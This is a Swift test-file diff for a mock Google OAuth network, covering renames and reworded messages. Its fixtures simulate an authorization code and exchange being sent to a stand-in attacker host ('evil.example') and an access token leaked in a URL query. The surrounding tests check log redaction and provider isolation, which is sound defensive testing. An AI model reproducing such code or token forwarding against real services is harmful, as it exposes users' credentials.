@@ -4,44 +4,45 @@ import Testing
 
 @testable import MockGoogle
 
-@Suite("Worlds and logs")
-struct WorldTests {
-    static func world() throws -> MockWorld {
+@Suite("Networks and logs")
+struct NetworkTests {
+    static func network() throws -> MockNetwork {
         let text = #"""
             {"google": {}, "evil": {"base_url": "https://evil.example", "documents": {
               "/keys.json": {"body": {"jwks": ["attacker"]}}, "/page": {"body": "hi", "media_type": "text/plain"}}}}
             """#
         let forge = try Fixture.forge.get()
-        return MockWorld(
-            try Fixture.providers(text, file: "world.json")
+        return MockNetwork(
+            try Fixture.providers(text, file: "network.json")
                 .map { MockGoogleProvider($0, forge: forge, startingAt: Fixture.start) })
     }
 
     static func send(
-        _ world: inout MockWorld, _ method: String, _ url: String, _ headers: [HeaderField] = [], _ body: String = ""
+        _ network: inout MockNetwork, _ method: String, _ url: String, _ headers: [HeaderField] = [],
+        _ body: String = ""
     ) throws -> MockResponse {
         let request = try #require(WebRequest(method: method, url: url, headers: headers, body: Array(body.utf8)))
-        return world.respond(to: request, at: Fixture.start)
+        return network.respond(to: request, at: Fixture.start)
     }
 
     static let form = [HeaderField("content-type", "application/x-www-form-urlencoded; charset=utf-8")]
 
-    /// An honest sign-in, then a code sent to the evil provider and to nobody, and a token in a query.
-    static func used() throws -> MockWorld {
-        var world = try world()
+    /// A network after an honest sign-in, a code sent to the evil provider and to nobody, and a token in a query.
+    static func used() throws -> MockNetwork {
+        var network = try network()
         let query = Browser.parameters(Browser.authorization, [:]).text()
-        let answer = try send(&world, "GET", "https://accounts.google.com/o/oauth2/v2/auth?" + query)
+        let answer = try send(&network, "GET", "https://accounts.google.com/o/oauth2/v2/auth?" + query)
         let code = try #require(Browser.callback(answer)["code"])
         let exchange = Browser.exchange(code).text(.percent)
-        let tokens = try Browser.json(send(&world, "POST", "https://oauth2.googleapis.com/token", form, exchange))
+        let tokens = try Browser.json(send(&network, "POST", "https://oauth2.googleapis.com/token", form, exchange))
         let accessToken = try Browser.text(tokens, "access_token")
-        _ = try send(&world, "POST", "https://evil.example/token", form, exchange)
-        _ = try send(&world, "GET", "https://nowhere.example/cb?code=\(code)")
+        _ = try send(&network, "POST", "https://evil.example/token", form, exchange)
+        _ = try send(&network, "GET", "https://nowhere.example/cb?code=\(code)")
         _ = try send(
-            &world, "GET", "https://nowhere.example/api", [HeaderField("authorization", "bearer \(accessToken)")])
-        _ = try send(&world, "GET", "https://openidconnect.googleapis.com/v1/userinfo?access_token=\(accessToken)")
-        for _ in 0..<3 { _ = try send(&world, "GET", "https://www.googleapis.com/oauth2/v3/certs") }
-        return world
+            &network, "GET", "https://nowhere.example/api", [HeaderField("authorization", "bearer \(accessToken)")])
+        _ = try send(&network, "GET", "https://openidconnect.googleapis.com/v1/userinfo?access_token=\(accessToken)")
+        for _ in 0..<3 { _ = try send(&network, "GET", "https://www.googleapis.com/oauth2/v3/certs") }
+        return network
     }
 
     static let expectations: [Case<(expectation: String, failure: String?)>] = [
@@ -84,9 +85,9 @@ struct WorldTests {
 
     @Test("An expectation counts what it names", arguments: expectations)
     func expectation(_ row: Case<(expectation: String, failure: String?)>) throws {
-        let world = try Self.used()
+        let network = try Self.used()
         let node = try Document.parse(text: row.value.expectation, file: "vector.json")
-        let failures = world.failures(of: [try LogExpectation(decoding: node, providers: world.names)])
+        let failures = network.failures(of: [try LogExpectation(decoding: node, providers: network.names)])
         #expect(failures.map(\.message) == [row.value.failure].compactMap(\.self))
         #expect(failures.allSatisfy { $0.file == "vector.json" })
     }
@@ -94,11 +95,11 @@ struct WorldTests {
     static let mistakes: [Case<(text: String, errors: [String])>] = [
         Case(
             "no bound",
-            (#"{"endpoint": "certs"}"#, [#"e.json:1:14: $.endpoint: an expectation has "min", "max" or "count""#])),
+            (#"{"endpoint": "certs"}"#, [#"e.json:1:14: $.endpoint: an expectation needs "min", "max" or "count""#])),
         Case("never fails", (#"{"min": 0}"#, [#"e.json:1:9: $.min: the expectation can never fail"#])),
         Case(
             "two bounds",
-            (#"{"count": 1, "max": 2}"#, [#"e.json:1:11: $.count: "count" leaves no place for "min" and "max""#])),
+            (#"{"count": 1, "max": 2}"#, [#"e.json:1:11: $.count: use either "count" or "min" and "max""#])),
         Case("crossed", (#"{"min": 2, "max": 1}"#, [#"e.json:1:9: $.min: "min" is larger than "max""#])),
         Case(
             "endpoint",
@@ -126,7 +127,7 @@ struct WorldTests {
             )),
     ]
 
-    @Test("A mistake in an expectation has its place", arguments: mistakes)
+    @Test("A mistake in an expectation is reported with its location", arguments: mistakes)
     func mistake(_ row: Case<(text: String, errors: [String])>) {
         let errors = Fixture.errors {
             let node = try Document.parse(text: row.value.text, file: "e.json")
@@ -146,25 +147,25 @@ struct WorldTests {
             ("https://evil.example@nowhere.example/", 0),
         ])
     func routing(_ url: String, _ status: Int) throws {
-        var world = try Self.world()
-        let response = try Self.send(&world, "GET", url)
+        var network = try Self.network()
+        let response = try Self.send(&network, "GET", url)
         #expect(response.status == status)
         #expect((response.delivery.ending == .unreachable) == (status == 0))
-        #expect(world.strayRequests.total == (status == 0 ? 1 : 0))
+        #expect(network.strayRequests.total == (status == 0 ? 1 : 0))
     }
 
     @Test("Two providers share no codes")
     func apart() throws {
-        var world = try Self.world()
+        var network = try Self.network()
         let query = Browser.parameters(Browser.authorization, [:]).text()
-        let answer = try Self.send(&world, "GET", "https://evil.example/o/oauth2/v2/auth?" + query)
+        let answer = try Self.send(&network, "GET", "https://evil.example/o/oauth2/v2/auth?" + query)
         let callback = try Browser.callback(answer)
         #expect(callback["iss"] == "https://evil.example")
         let code = try #require(callback["code"])
-        #expect(world["evil"]?.issuedSecret(code) == .code)
-        #expect(world["google"]?.issuedSecret(code) == nil)
+        #expect(network["evil"]?.issuedSecret(code) == .code)
+        #expect(network["google"]?.issuedSecret(code) == nil)
         let response = try Self.send(
-            &world, "POST", "https://oauth2.googleapis.com/token", Self.form, Browser.exchange(code).text())
+            &network, "POST", "https://oauth2.googleapis.com/token", Self.form, Browser.exchange(code).text())
         #expect(try Browser.json(response)["error_description"] == "Malformed auth code.")
     }
 
@@ -176,40 +177,40 @@ struct WorldTests {
         #expect(errors == [#"w.json:1:16: $.b: answers where "a" does; give it a "base_url""#])
     }
 
-    @Test("No description tells a secret, and every other parameter is told")
+    @Test("No description shows a secret, and every other parameter is shown")
     func redaction() throws {
-        let world = try Self.used()
-        let log = try #require(world["google"]).log
+        let network = try Self.used()
+        let log = try #require(network["google"]).log
         let texts = log.requests.map { "\($0) \(String(reflecting: $0))" + DocumentWriter.text($0.documentValue) }
-        let all = texts.joined() + world.strayRequests.requests.map { DocumentWriter.text($0.documentValue) }.joined()
+        let all = texts.joined() + network.strayRequests.requests.map { DocumentWriter.text($0.documentValue) }.joined()
         #expect(!all.contains("4/0A"))
         #expect(!all.contains("ya29."))
         #expect(!all.contains(Fixture.verifier))
         #expect(all.contains(#"["code_verifier",{"bytes":43}]"#))
         #expect(all.contains(#"["state","s-1"]"#))
         var dumped = ""
-        dump(world, to: &dumped)
+        dump(network, to: &dumped)
         #expect(!dumped.contains("4/0A") && !dumped.contains("ya29.") && !dumped.contains("GOCSPX"))
         let request = try #require(WebRequest(method: "GET", url: "https://x.example/?code=4/0Ax"))
         #expect("\(request) \(String(reflecting: request))".contains("4/0A") == false)
     }
 
-    @Test("A log that has forgotten says so, but still counts endpoints")
+    @Test("A log that dropped requests says so, but still counts endpoints")
     func forgotten() throws {
         var browser = try Browser(#"{"log_capacity": 4}"#)
         for _ in 0..<10 { _ = try browser.certs() }
         let log = browser.provider.log
         #expect(log.requests.map(\.number) == [7, 8, 9, 10])
         #expect(log.dropped == 6)
-        let world = MockWorld([browser.provider])
+        let network = MockNetwork([browser.provider])
         func failures(_ text: String) throws -> [String] {
             let node = try Document.parse(text: text, file: "e.json")
-            return world.failures(of: [try LogExpectation(decoding: node, providers: ["google"])]).map(\.message)
+            return network.failures(of: [try LogExpectation(decoding: node, providers: ["google"])]).map(\.message)
         }
         #expect(try failures(#"{"endpoint": "certs", "count": 10}"#) == [])
         #expect(
             try failures(#"{"endpoint": "certs", "method": "GET", "count": 10}"#)
-                == [#"the log has forgotten 6 requests; raise "log_capacity" to judge this"#])
+                == [#"the log has dropped 6 requests; raise "log_capacity" to judge this"#])
         browser.provider.clearLog()
         #expect(browser.provider.log.total == 0)
     }
